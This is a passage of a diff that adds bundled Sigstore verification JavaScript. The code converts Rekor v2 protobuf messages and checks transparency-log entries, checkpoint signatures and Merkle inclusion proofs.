+		                ? { $case: "publicKey", publicKey: exports.PublicKey.fromJSON(object.publicKey) }
+		                : isSet(object.x509Certificate)
+		                    ? { $case: "x509Certificate", x509Certificate: sigstore_common_1.X509Certificate.fromJSON(object.x509Certificate) }
+		                    : undefined,
+		            keyDetails: isSet(object.keyDetails) ? (0, sigstore_common_1.publicKeyDetailsFromJSON)(object.keyDetails) : 0,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.verifier?.$case === "publicKey") {
+		            obj.publicKey = exports.PublicKey.toJSON(message.verifier.publicKey);
+		        }
+		        else if (message.verifier?.$case === "x509Certificate") {
+		            obj.x509Certificate = sigstore_common_1.X509Certificate.toJSON(message.verifier.x509Certificate);
+		        }
+		        if (message.keyDetails !== 0) {
+		            obj.keyDetails = (0, sigstore_common_1.publicKeyDetailsToJSON)(message.keyDetails);
+		        }
+		        return obj;
+		    },
+		};
+		exports.Signature = {
+		    fromJSON(object) {
+		        return {
+		            content: isSet(object.content) ? Buffer.from(bytesFromBase64(object.content)) : Buffer.alloc(0),
+		            verifier: isSet(object.verifier) ? exports.Verifier.fromJSON(object.verifier) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.content.length !== 0) {
+		            obj.content = base64FromBytes(message.content);
+		        }
+		        if (message.verifier !== undefined) {
+		            obj.verifier = exports.Verifier.toJSON(message.verifier);
+		        }
+		        return obj;
+		    },
+		};
+		function bytesFromBase64(b64) {
+		    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+		}
+		function base64FromBytes(arr) {
+		    return globalThis.Buffer.from(arr).toString("base64");
+		}
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (verifier));
+	return verifier;
+}
+
+var hasRequiredDsse$1;
+
+function requireDsse$1 () {
+	if (hasRequiredDsse$1) return dsse$1;
+	hasRequiredDsse$1 = 1;
+	// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+	// versions:
+	//   protoc-gen-ts_proto  v2.12.0
+	//   protoc               v7.35.1
+	// source: rekor/v2/dsse.proto
+	Object.defineProperty(dsse$1, "__esModule", { value: true });
+	dsse$1.DSSELogEntryV002 = dsse$1.DSSERequestV002 = void 0;
+	/* eslint-disable */
+	const envelope_1 = requireEnvelope();
+	const sigstore_common_1 = requireSigstore_common();
+	const verifier_1 = requireVerifier$1();
+	dsse$1.DSSERequestV002 = {
+	    fromJSON(object) {
+	        return {
+	            envelope: isSet(object.envelope) ? envelope_1.Envelope.fromJSON(object.envelope) : undefined,
+	            verifiers: globalThis.Array.isArray(object?.verifiers)
+	                ? object.verifiers.map((e) => verifier_1.Verifier.fromJSON(e))
+	                : [],
+	        };
+	    },
+	    toJSON(message) {
+	        const obj = {};
+	        if (message.envelope !== undefined) {
+	            obj.envelope = envelope_1.Envelope.toJSON(message.envelope);
+	        }
+	        if (message.verifiers?.length) {
+	            obj.verifiers = message.verifiers.map((e) => verifier_1.Verifier.toJSON(e));
+	        }
+	        return obj;
+	    },
+	};
+	dsse$1.DSSELogEntryV002 = {
+	    fromJSON(object) {
+	        return {
+	            payloadHash: isSet(object.payloadHash) ? sigstore_common_1.HashOutput.fromJSON(object.payloadHash) : undefined,
+	            signatures: globalThis.Array.isArray(object?.signatures)
+	                ? object.signatures.map((e) => verifier_1.Signature.fromJSON(e))
+	                : [],
+	        };
+	    },
+	    toJSON(message) {
+	        const obj = {};
+	        if (message.payloadHash !== undefined) {
+	            obj.payloadHash = sigstore_common_1.HashOutput.toJSON(message.payloadHash);
+	        }
+	        if (message.signatures?.length) {
+	            obj.signatures = message.signatures.map((e) => verifier_1.Signature.toJSON(e));
+	        }
+	        return obj;
+	    },
+	};
+	function isSet(value) {
+	    return value !== null && value !== undefined;
+	}
+	return dsse$1;
+}
+
+var entry = {};
+
+var hashedrekord$1 = {};
+
+var hasRequiredHashedrekord$1;
+
+function requireHashedrekord$1 () {
+	if (hasRequiredHashedrekord$1) return hashedrekord$1;
+	hasRequiredHashedrekord$1 = 1;
+	// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+	// versions:
+	//   protoc-gen-ts_proto  v2.12.0
+	//   protoc               v7.35.1
+	// source: rekor/v2/hashedrekord.proto
+	Object.defineProperty(hashedrekord$1, "__esModule", { value: true });
+	hashedrekord$1.HashedRekordLogEntryV002 = hashedrekord$1.HashedRekordRequestV002 = void 0;
+	/* eslint-disable */
+	const sigstore_common_1 = requireSigstore_common();
+	const verifier_1 = requireVerifier$1();
+	hashedrekord$1.HashedRekordRequestV002 = {
+	    fromJSON(object) {
+	        return {
+	            digest: isSet(object.digest) ? Buffer.from(bytesFromBase64(object.digest)) : Buffer.alloc(0),
+	            signature: isSet(object.signature) ? verifier_1.Signature.fromJSON(object.signature) : undefined,
+	        };
+	    },
+	    toJSON(message) {
+	        const obj = {};
+	        if (message.digest.length !== 0) {
+	            obj.digest = base64FromBytes(message.digest);
+	        }
+	        if (message.signature !== undefined) {
+	            obj.signature = verifier_1.Signature.toJSON(message.signature);
+	        }
+	        return obj;
+	    },
+	};
+	hashedrekord$1.HashedRekordLogEntryV002 = {
+	    fromJSON(object) {
+	        return {
+	            data: isSet(object.data) ? sigstore_common_1.HashOutput.fromJSON(object.data) : undefined,
+	            signature: isSet(object.signature) ? verifier_1.Signature.fromJSON(object.signature) : undefined,
+	        };
+	    },
+	    toJSON(message) {
+	        const obj = {};
+	        if (message.data !== undefined) {
+	            obj.data = sigstore_common_1.HashOutput.toJSON(message.data);
+	        }
+	        if (message.signature !== undefined) {
+	            obj.signature = verifier_1.Signature.toJSON(message.signature);
+	        }
+	        return obj;
+	    },
+	};
+	function bytesFromBase64(b64) {
+	    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+	}
+	function base64FromBytes(arr) {
+	    return globalThis.Buffer.from(arr).toString("base64");
+	}
+	function isSet(value) {
+	    return value !== null && value !== undefined;
+	}
+	return hashedrekord$1;
+}
+
+var hasRequiredEntry;
+
+function requireEntry () {
+	if (hasRequiredEntry) return entry;
+	hasRequiredEntry = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: rekor/v2/entry.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.CreateEntryRequest = exports.Spec = exports.Entry = void 0;
+		/* eslint-disable */
+		const dsse_1 = requireDsse$1();
+		const hashedrekord_1 = requireHashedrekord$1();
+		exports.Entry = {
+		    fromJSON(object) {
+		        return {
+		            kind: isSet(object.kind) ? globalThis.String(object.kind) : "",
+		            apiVersion: isSet(object.apiVersion) ? globalThis.String(object.apiVersion) : "",
+		            spec: isSet(object.spec) ? exports.Spec.fromJSON(object.spec) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.kind !== "") {
+		            obj.kind = message.kind;
+		        }
+		        if (message.apiVersion !== "") {
+		            obj.apiVersion = message.apiVersion;
+		        }
+		        if (message.spec !== undefined) {
+		            obj.spec = exports.Spec.toJSON(message.spec);
+		        }
+		        return obj;
+		    },
+		};
+		exports.Spec = {
+		    fromJSON(object) {
+		        return {
+		            spec: isSet(object.hashedRekordV002)
+		                ? { $case: "hashedRekordV002", hashedRekordV002: hashedrekord_1.HashedRekordLogEntryV002.fromJSON(object.hashedRekordV002) }
+		                : isSet(object.dsseV002)
+		                    ? { $case: "dsseV002", dsseV002: dsse_1.DSSELogEntryV002.fromJSON(object.dsseV002) }
+		                    : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.spec?.$case === "hashedRekordV002") {
+		            obj.hashedRekordV002 = hashedrekord_1.HashedRekordLogEntryV002.toJSON(message.spec.hashedRekordV002);
+		        }
+		        else if (message.spec?.$case === "dsseV002") {
+		            obj.dsseV002 = dsse_1.DSSELogEntryV002.toJSON(message.spec.dsseV002);
+		        }
+		        return obj;
+		    },
+		};
+		exports.CreateEntryRequest = {
+		    fromJSON(object) {
+		        return {
+		            spec: isSet(object.hashedRekordRequestV002)
+		                ? {
+		                    $case: "hashedRekordRequestV002",
+		                    hashedRekordRequestV002: hashedrekord_1.HashedRekordRequestV002.fromJSON(object.hashedRekordRequestV002),
+		                }
+		                : isSet(object.dsseRequestV002)
+		                    ? { $case: "dsseRequestV002", dsseRequestV002: dsse_1.DSSERequestV002.fromJSON(object.dsseRequestV002) }
+		                    : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.spec?.$case === "hashedRekordRequestV002") {
+		            obj.hashedRekordRequestV002 = hashedrekord_1.HashedRekordRequestV002.toJSON(message.spec.hashedRekordRequestV002);
+		        }
+		        else if (message.spec?.$case === "dsseRequestV002") {
+		            obj.dsseRequestV002 = dsse_1.DSSERequestV002.toJSON(message.spec.dsseRequestV002);
+		        }
+		        return obj;
+		    },
+		};
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (entry));
+	return entry;
+}
+
+var hasRequiredV2;
+
+function requireV2 () {
+	if (hasRequiredV2) return v2;
+	hasRequiredV2 = 1;
+	(function (exports) {
+		var __createBinding = (v2 && v2.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    var desc = Object.getOwnPropertyDescriptor(m, k);
+		    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+		      desc = { enumerable: true, get: function() { return m[k]; } };
+		    }
+		    Object.defineProperty(o, k2, desc);
+		}) : (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    o[k2] = m[k];
+		}));
+		var __exportStar = (v2 && v2.__exportStar) || function(m, exports) {
+		    for (var p in m) if (p !== "default" && !Object.prototype.hasOwnProperty.call(exports, p)) __createBinding(exports, m, p);
+		};
+		Object.defineProperty(exports, "__esModule", { value: true });
+		/*
+		Copyright 2025 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		__exportStar(requireDsse$1(), exports);
+		__exportStar(requireEntry(), exports);
+		__exportStar(requireHashedrekord$1(), exports);
+		__exportStar(requireVerifier$1(), exports); 
+	} (v2));
+	return v2;
+}
+
+var dsse = {};
+
+var hasRequiredDsse;
+
+function requireDsse () {
+	if (hasRequiredDsse) return dsse;
+	hasRequiredDsse = 1;
+	(function (exports) {
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.DSSE_API_VERSION_V1 = void 0;
+		exports.verifyDSSETLogBody = verifyDSSETLogBody;
+		exports.verifyDSSETLogBodyV2 = verifyDSSETLogBodyV2;
+		/*
+		Copyright 2025 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		const error_1 = requireError();
+		exports.DSSE_API_VERSION_V1 = '0.0.1';
+		// Compare the given dsse tlog entry to the given bundle
+		function verifyDSSETLogBody(tlogEntry, content) {
+		    switch (tlogEntry.apiVersion) {
+		        case exports.DSSE_API_VERSION_V1:
+		            return verifyDSSE001TLogBody(tlogEntry, content);
+		        default:
+		            throw new error_1.VerificationError({
+		                code: 'TLOG_BODY_ERROR',
+		                message: `unsupported dsse version: ${tlogEntry.apiVersion}`,
+		            });
+		    }
+		}
+		// Compare the given dsse tlog entry to the given bundle. This function is
+		// specifically for Rekor V2 entries.
+		function verifyDSSETLogBodyV2(tlogEntry, content) {
+		    const spec = tlogEntry.spec?.spec;
+		    if (!spec) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: `missing dsse spec`,
+		        });
+		    }
+		    switch (spec.$case) {
+		        case 'dsseV002':
+		            return verifyDSSE002TLogBody(spec.dsseV002, content);
+		        default:
+		            throw new error_1.VerificationError({
+		                code: 'TLOG_BODY_ERROR',
+		                message: `unsupported version: ${spec.$case}`,
+		            });
+		    }
+		}
+		// Compare the given dsse v0.0.1 tlog entry to the given DSSE envelope.
+		function verifyDSSE001TLogBody(tlogEntry, content) {
+		    // Ensure the bundle's DSSE only contains a single signature
+		    if (tlogEntry.spec.signatures?.length !== 1) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'signature count mismatch',
+		        });
+		    }
+		    const tlogSig = tlogEntry.spec.signatures[0].signature;
+		    // Ensure that the signature in the bundle's DSSE matches tlog entry
+		    if (!content.compareSignature(Buffer.from(tlogSig, 'base64')))
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'tlog entry signature mismatch',
+		        });
+		    // Ensure the digest of the bundle's DSSE payload matches the digest in the
+		    // tlog entry
+		    const tlogHash = tlogEntry.spec.payloadHash?.value || '';
+		    if (!content.compareDigest(Buffer.from(tlogHash, 'hex'))) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'DSSE payload hash mismatch',
+		        });
+		    }
+		}
+		// Compare the given dsse v0.0.2 tlog entry to the given DSSE envelope.
+		function verifyDSSE002TLogBody(spec, content) {
+		    // Ensure the bundle's DSSE only contains a single signature
+		    if (spec.signatures?.length !== 1) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'signature count mismatch',
+		        });
+		    }
+		    const tlogSig = spec.signatures[0].content;
+		    // Ensure that the signature in the bundle's DSSE matches tlog entry
+		    if (!content.compareSignature(tlogSig))
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'tlog entry signature mismatch',
+		        });
+		    // Ensure the digest of the bundle's DSSE payload matches the digest in the
+		    // tlog entry
+		    const tlogHash = spec.payloadHash?.digest || Buffer.from('');
+		    if (!content.compareDigest(tlogHash)) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'DSSE payload hash mismatch',
+		        });
+		    }
+		} 
+	} (dsse));
+	return dsse;
+}
+
+var hashedrekord = {};
+
+var hasRequiredHashedrekord;
+
+function requireHashedrekord () {
+	if (hasRequiredHashedrekord) return hashedrekord;
+	hasRequiredHashedrekord = 1;
+	(function (exports) {
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.HASHEDREKORD_API_VERSION_V1 = void 0;
+		exports.verifyHashedRekordTLogBody = verifyHashedRekordTLogBody;
+		exports.verifyHashedRekordTLogBodyV2 = verifyHashedRekordTLogBodyV2;
+		/*
+		Copyright 2025 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		const error_1 = requireError();
+		exports.HASHEDREKORD_API_VERSION_V1 = '0.0.1';
+		// Compare the given hashedrekord tlog entry to the given bundle
+		function verifyHashedRekordTLogBody(tlogEntry, content) {
+		    switch (tlogEntry.apiVersion) {
+		        case exports.HASHEDREKORD_API_VERSION_V1:
+		            return verifyHashedrekord001TLogBody(tlogEntry, content);
+		        default:
+		            throw new error_1.VerificationError({
+		                code: 'TLOG_BODY_ERROR',
+		                message: `unsupported hashedrekord version: ${tlogEntry.apiVersion}`,
+		            });
+		    }
+		}
+		// Compare the given hashedrekor tlog entry to the given bundle. This function is
+		// specifically for Rekor V2 entries.
+		function verifyHashedRekordTLogBodyV2(tlogEntry, content) {
+		    const spec = tlogEntry.spec?.spec;
+		    if (!spec) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: `missing dsse spec`,
+		        });
+		    }
+		    switch (spec.$case) {
+		        case 'hashedRekordV002':
+		            return verifyHashedrekord002TLogBody(spec.hashedRekordV002, content);
+		        default:
+		            throw new error_1.VerificationError({
+		                code: 'TLOG_BODY_ERROR',
+		                message: `unsupported version: ${spec.$case}`,
+		            });
+		    }
+		}
+		// Compare the given hashedrekord v0.0.1 tlog entry to the given message
+		// signature
+		function verifyHashedrekord001TLogBody(tlogEntry, content) {
+		    // Ensure that the bundles message signature matches the tlog entry
+		    const tlogSig = tlogEntry.spec.signature.content || '';
+		    if (!content.compareSignature(Buffer.from(tlogSig, 'base64'))) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'signature mismatch',
+		        });
+		    }
+		    // Ensure that the bundle's message digest matches the tlog entry
+		    const tlogDigest = tlogEntry.spec.data.hash?.value || '';
+		    if (!content.compareDigest(Buffer.from(tlogDigest, 'hex'))) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'digest mismatch',
+		        });
+		    }
+		}
+		// Compare the given hashedrekord v0.0.2 tlog entry to the given message
+		// signature
+		function verifyHashedrekord002TLogBody(spec, content) {
+		    // Ensure that the bundles message signature matches the tlog entry
+		    const tlogSig = spec.signature?.content || Buffer.from('');
+		    if (!content.compareSignature(tlogSig)) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'signature mismatch',
+		        });
+		    }
+		    // Ensure that the bundle's message digest matches the tlog entry
+		    const tlogHash = spec.data?.digest || Buffer.from('');
+		    if (!content.compareDigest(tlogHash)) {
+		        throw new error_1.VerificationError({
+		            code: 'TLOG_BODY_ERROR',
+		            message: 'digest mismatch',
+		        });
+		    }
+		} 
+	} (hashedrekord));
+	return hashedrekord;
+}
+
+var intoto = {};
+
+var hasRequiredIntoto;
+
+function requireIntoto () {
+	if (hasRequiredIntoto) return intoto;
+	hasRequiredIntoto = 1;
+	Object.defineProperty(intoto, "__esModule", { value: true });
+	intoto.verifyIntotoTLogBody = verifyIntotoTLogBody;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const error_1 = requireError();
+	// Compare the given intoto tlog entry to the given bundle
+	function verifyIntotoTLogBody(tlogEntry, content) {
+	    switch (tlogEntry.apiVersion) {
+	        case '0.0.2':
+	            return verifyIntoto002TLogBody(tlogEntry, content);
+	        default:
+	            throw new error_1.VerificationError({
+	                code: 'TLOG_BODY_ERROR',
+	                message: `unsupported intoto version: ${tlogEntry.apiVersion}`,
+	            });
+	    }
+	}
+	// Compare the given intoto v0.0.2 tlog entry to the given DSSE envelope.
+	function verifyIntoto002TLogBody(tlogEntry, content) {
+	    // Ensure the bundle's DSSE contains a single signature
+	    if (tlogEntry.spec.content.envelope.signatures?.length !== 1) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_BODY_ERROR',
+	            message: 'signature count mismatch',
+	        });
+	    }
+	    // Signature is double-base64-encoded in the tlog entry
+	    const tlogSig = base64Decode(tlogEntry.spec.content.envelope.signatures[0].sig);
+	    // Ensure that the signature in the bundle's DSSE matches tlog entry
+	    if (!content.compareSignature(Buffer.from(tlogSig, 'base64'))) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_BODY_ERROR',
+	            message: 'tlog entry signature mismatch',
+	        });
+	    }
+	    // Ensure the digest of the bundle's DSSE payload matches the digest in the
+	    // tlog entry
+	    const tlogHash = tlogEntry.spec.content.payloadHash?.value || '';
+	    if (!content.compareDigest(Buffer.from(tlogHash, 'hex'))) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_BODY_ERROR',
+	            message: 'DSSE payload hash mismatch',
+	        });
+	    }
+	}
+	function base64Decode(str) {
+	    return Buffer.from(str, 'base64').toString('utf-8');
+	}
+	return intoto;
+}
+
+var checkpoint = {};
+
+var hasRequiredCheckpoint;
+
+function requireCheckpoint () {
+	if (hasRequiredCheckpoint) return checkpoint;
+	hasRequiredCheckpoint = 1;
+	Object.defineProperty(checkpoint, "__esModule", { value: true });
+	checkpoint.LogCheckpoint = void 0;
+	checkpoint.verifyCheckpoint = verifyCheckpoint;
+	/*
+	Copyright 2025 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	const error_1 = requireError();
+	// Separator between the note and the signatures in a checkpoint
+	const CHECKPOINT_SEPARATOR = '\n\n';
+	// Checkpoint signatures are of the following form:
+	// "– <identity> <key_hint+signature_bytes>\n"
+	// where:
+	// - the prefix is an emdash (U+2014).
+	// - <identity> gives a human-readable representation of the signing ID.
+	// - <key_hint+signature_bytes> is the first 4 bytes of the SHA256 hash of the
+	//   associated public key followed by the signature bytes.
+	const SIGNATURE_REGEX = /\u2014 (\S+) (\S+)\n/g;
+	// Verifies the checkpoint value in the given tlog entry. There are two steps
+	// to the verification:
+	// 1. Verify that all signatures in the checkpoint can be verified against a
+	//    trusted public key
+	// 2. Verify that the root hash in the checkpoint matches the root hash in the
+	//    inclusion proof
+	// See: https://github.com/transparency-dev/formats/blob/main/log/README.md
+	function verifyCheckpoint(entry, tlogs) {
+	    const inclusionProof = entry.inclusionProof;
+	    const signedNote = SignedNote.fromString(inclusionProof.checkpoint.envelope);
+	    const checkpoint = LogCheckpoint.fromString(signedNote.note);
+	    // Verify that the signatures in the checkpoint are all valid
+	    if (!verifySignedNote(signedNote, tlogs)) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_INCLUSION_PROOF_ERROR',
+	            message: 'invalid checkpoint signature',
+	        });
+	    }
+	    return checkpoint;
+	}
+	// Verifies the signatures in the SignedNote. For each signature, the
+	// corresponding transparency log is looked up by the key hint and the
+	// signature is verified against the public key in the transparency log.
+	// Throws an error if any of the signatures are invalid.
+	function verifySignedNote(signedNote, tlogs) {
+	    const data = Buffer.from(signedNote.note, 'utf-8');
+	    return signedNote.signatures.some((signature) => {
+	        // Find the transparency log instance with the matching key hint
+	        const tlog = tlogs.find((tlog) => core_1.crypto.bufferEqual(tlog.logID.subarray(0, 4), signature.keyHint) &&
+	            tlog.baseURL.match(signature.name) // Match the name to the base URL of the tlog
+	        );
+	        if (!tlog) {
+	            return false;
+	        }
+	        return core_1.crypto.verify(data, tlog.publicKey, signature.signature);
+	    });
+	}
+	// SignedNote represents a signed note from a transparency log checkpoint. Consists
+	// of a body (or note) and one more signatures calculated over the body. See
+	// https://github.com/transparency-dev/formats/blob/main/log/README.md#signed-envelope
+	class SignedNote {
+	    note;
+	    signatures;
+	    constructor(note, signatures) {
+	        this.note = note;
+	        this.signatures = signatures;
+	    }
+	    // Deserialize a SignedNote from a string
+	    static fromString(envelope) {
+	        if (!envelope.includes(CHECKPOINT_SEPARATOR)) {
+	            throw new error_1.VerificationError({
+	                code: 'TLOG_INCLUSION_PROOF_ERROR',
+	                message: 'missing checkpoint separator',
+	            });
+	        }
+	        // Split the note into the header and the data portions at the separator
+	        const split = envelope.indexOf(CHECKPOINT_SEPARATOR);
+	        const header = envelope.slice(0, split + 1);
+	        const data = envelope.slice(split + CHECKPOINT_SEPARATOR.length);
+	        // Find all the signature lines in the data portion
+	        const matches = data.matchAll(SIGNATURE_REGEX);
+	        // Parse each of the matched signature lines into the name and signature.
+	        // The first four bytes of the signature are the key hint (should match the
+	        // first four bytes of the log ID), and the rest is the signature itself.
+	        const signatures = Array.from(matches, (match) => {
+	            const [, name, signature] = match;
+	            const sigBytes = Buffer.from(signature, 'base64');
+	            if (sigBytes.length < 5) {
+	                throw new error_1.VerificationError({
+	                    code: 'TLOG_INCLUSION_PROOF_ERROR',
+	                    message: 'malformed checkpoint signature',
+	                });
+	            }
+	            return {
+	                name,
+	                keyHint: sigBytes.subarray(0, 4),
+	                signature: sigBytes.subarray(4),
+	            };
+	        });
+	        if (signatures.length === 0) {
+	            throw new error_1.VerificationError({
+	                code: 'TLOG_INCLUSION_PROOF_ERROR',
+	                message: 'no signatures found in checkpoint',
+	            });
+	        }
+	        return new SignedNote(header, signatures);
+	    }
+	}
+	// LogCheckpoint represents a transparency log checkpoint. Consists of the
+	// following:
+	//  - origin: the name of the transparency log
+	//  - logSize: the size of the log at the time of the checkpoint
+	//  - logHash: the root hash of the log at the time of the checkpoint
+	//  - rest: the rest of the checkpoint body, which is a list of log entries
+	// See:
+	// https://github.com/transparency-dev/formats/blob/main/log/README.md#checkpoint-body
+	class LogCheckpoint {
+	    origin;
+	    logSize;
+	    logHash;
+	    rest;
+	    constructor(origin, logSize, logHash, rest) {
+	        this.origin = origin;
+	        this.logSize = logSize;
+	        this.logHash = logHash;
+	        this.rest = rest;
+	    }
+	    static fromString(note) {
+	        const lines = note.trimEnd().split('\n');
+	        if (lines.length < 3) {
+	            throw new error_1.VerificationError({
+	                code: 'TLOG_INCLUSION_PROOF_ERROR',
+	                message: 'too few lines in checkpoint header',
+	            });
+	        }
+	        const origin = lines[0];
+	        const logSize = BigInt(lines[1]);
+	        const rootHash = Buffer.from(lines[2], 'base64');
+	        const rest = lines.slice(3);
+	        return new LogCheckpoint(origin, logSize, rootHash, rest);
+	    }
+	}
+	checkpoint.LogCheckpoint = LogCheckpoint;
+	return checkpoint;
+}
+
+var merkle = {};
+
+var hasRequiredMerkle;
+
+function requireMerkle () {
+	if (hasRequiredMerkle) return merkle;
+	hasRequiredMerkle = 1;
+	Object.defineProperty(merkle, "__esModule", { value: true });
+	merkle.verifyMerkleInclusion = verifyMerkleInclusion;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	const error_1 = requireError();
+	const RFC6962_LEAF_HASH_PREFIX = Buffer.from([0x00]);
+	const RFC6962_NODE_HASH_PREFIX = Buffer.from([0x01]);
+	function verifyMerkleInclusion(entry, checkpoint) {
+	    const inclusionProof = entry.inclusionProof;
+	    const logIndex = BigInt(inclusionProof.logIndex);
+	    const treeSize = BigInt(checkpoint.logSize);
+	    if (logIndex < 0n || logIndex >= treeSize) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_INCLUSION_PROOF_ERROR',
+	            message: `invalid index: ${logIndex}`,
+	        });
+	    }
+	    // Figure out which subset of hashes corresponds to the inner and border
+	    // nodes
+	    const { inner, border } = decompInclProof(logIndex, treeSize);
+	    if (inclusionProof.hashes.length !== inner + border) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_INCLUSION_PROOF_ERROR',
+	            message: 'invalid hash count',
+	        });
+	    }
+	    const innerHashes = inclusionProof.hashes.slice(0, inner);
+	    const borderHashes = inclusionProof.hashes.slice(inner);
+	    // The entry's hash is the leaf hash
+	    const leafHash = hashLeaf(entry.canonicalizedBody);
+	    // Chain the hashes belonging to the inner and border portions
+	    const calculatedHash = chainBorderRight(chainInner(leafHash, innerHashes, logIndex), borderHashes);
+	    // Calculated hash should match the root hash in the inclusion proof
+	    if (!core_1.crypto.bufferEqual(calculatedHash, checkpoint.logHash)) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_INCLUSION_PROOF_ERROR',
+	            message: 'calculated root hash does not match inclusion proof',
+	        });
+	    }
+	}
+	// Breaks down inclusion proof for a leaf at the specified index in a tree of
+	// the specified size. The split point is where paths to the index leaf and
+	// the (size - 1) leaf diverge. Returns lengths of the bottom and upper proof
+	// parts.
+	function decompInclProof(index, size) {
+	    const inner = innerProofSize(index, size);
+	    const border = onesCount(index >> BigInt(inner));
+	    return { inner, border };
+	}
+	// Computes a subtree hash for a node on or below the tree's right border.
+	// Assumes the provided proof hashes are ordered from lower to higher levels
+	// and seed is the initial hash of the node specified by the index.
+	function chainInner(seed, hashes, index) {
+	    return hashes.reduce((acc, h, i) => {
+	        if ((index >> BigInt(i)) & BigInt(1)) {
+	            return hashChildren(h, acc);
+	        }
+	        else {
+	            return hashChildren(acc, h);
+	        }
+	    }, seed);
+	}
+	// Computes a subtree hash for nodes along the tree's right border.
+	function chainBorderRight(seed, hashes) {
+	    return hashes.reduce((acc, h) => hashChildren(h, acc), seed);
+	}
+	function innerProofSize(index, size) {
+	    return bitLength(index ^ (size - BigInt(1)));
+	}
+	// Counts the number of ones in the binary representation of the given number.
